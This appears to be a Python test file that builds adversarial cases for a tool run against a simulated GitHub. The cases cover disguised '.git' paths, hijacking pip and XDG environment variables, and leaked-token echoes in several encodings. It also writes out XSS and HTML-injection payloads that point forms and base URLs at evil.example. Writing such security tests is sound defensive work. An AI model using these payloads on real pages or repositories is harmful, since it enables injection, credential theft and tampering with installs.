"""What comes from outside a repository.

Broken and echoing answers, poisoned caches, the job's variables.
"""

from __future__ import annotations

import base64
import html
import json

from github_twin import seed
from github_twin.faults import BREAKS
from tests.kit.attacks import Attack
from tests.kit.planting_action import POISONS

STALL = "stall-inside"  # tried elsewhere: here nobody waits so long
INSIDES = (
    ".GIT/x.md",
    "docs/.Git/x.md",
    "git~1/x.md",
    "GIT~1./x.md",
    ".git./x.md",
    ".git /x.md",
    ".git::$INDEX_ALLOCATION/x.md",
    ".g\u200cit/x.md",
)
VARIABLES = (
    ("PIP_USER", "1"),
    ("PIP_PREFIX", "{folder}/elsewhere"),
    ("PIP_ROOT", "{folder}/elsewhere"),
    ("PIP_TARGET", "{folder}/elsewhere"),
    ("PIP_PYTHON", "/bin/false"),
    ("PIP_DRY_RUN", "1"),
    ("PIP_DRY-RUN", "1"),
    ("PIP_NO_INDEX", "1"),
    ("PIP_REQUIRE_VIRTUALENV", "1"),
    ("PIP_CONSTRAINT", "{folder}/nothing"),
    ("PIP_LOG", "{folder}/PWNED"),
    ("PIP_REPORT", "{folder}/PWNED"),
    ("PIP_CONFIG_FILE", "{folder}/pip/pip.conf"),
    ("XDG_CONFIG_DIRS", "{folder}"),
    ("XDG_CONFIG_HOME", "{folder}"),
)
ON_PAGES = {
    "a script": "</title><script>alert(1)</script>",
    "a handler": '"><img src=x onerror=alert(1)>',
    "a base": '"><base href=https://evil.example/>',
    "a form": '"><form action=https://evil.example/><input name=x></form>',
    "an end of the script": "</script><script>alert(1)",
}


def _spell(form: str, text: str = seed.JOB_TOKEN) -> str:
    return "".join(form.format(ord(sign)) for sign in text)


def _complain(words: str) -> str:
    """Make GitHub's answer to a token that it does not know; `words` stand there as they are."""
    return f'{{"message": "Bad credentials: {words}", "documentation_url": "x"}}'


_BASIC = base64.b64encode(f"x-access-token:{seed.PROJECT_TOKEN}".encode()).decode()
ECHOES = {
    "in JSON": _complain(_spell("\\u{:04x}")),
    "in JSON in JSON": _complain(_spell("\\\\u{:04X}")),
    "in a URL": _complain(_spell("%{:02x}")),
    "in a URL in a URL": _complain(_spell("%25{:02X}")),
    "in HTML": _complain(_spell("&#{};")),
    "in HTML in HTML": _complain(html.escape(_spell("&#x{:x};"))),
    "in GitHub's JSON": _complain(_spell("\\u0026#{};")),
    "one sign of it": _complain(seed.JOB_TOKEN.replace("-", "%2d", 1)),
    "the board's, in base64": _complain(f"Basic {_BASIC}"),
    "the board's": _complain(_spell("\\u{:04x}", seed.PROJECT_TOKEN)),
    "in an error of GraphQL": json.dumps(
        {"errors": [{"type": "FORBIDDEN", "message": _spell("%{:02x}")}]}
    ),
}

OUTSIDE = [
    *(Attack(f"settings: {path!r}", "settings", f"readme: ['{path}']", code=1) for path in INSIDES),
    *(Attack(f"answer: {way}", "break", (way, 1)) for way in BREAKS if way != STALL),
    *(
        Attack(f"answer: {way} for ever", "break", (way, 60), code=3)
        for way in ("cut-head", "cut-length", "cut-text", "bad-chunk", "bad-gzip", "reset-inside")
    ),
    *(Attack(f"answer: token {name}", "echo", text, code=1) for name, text in ECHOES.items()),
    *(Attack(f"page: {name}", "page", text) for name, text in ON_PAGES.items()),
    *(Attack(f"wheels: {name}", "wheels", name, code=int(name == "index")) for name in POISONS),
    *(Attack(f"wheels: {name}", "variable", (name, value)) for name, value in VARIABLES),
]
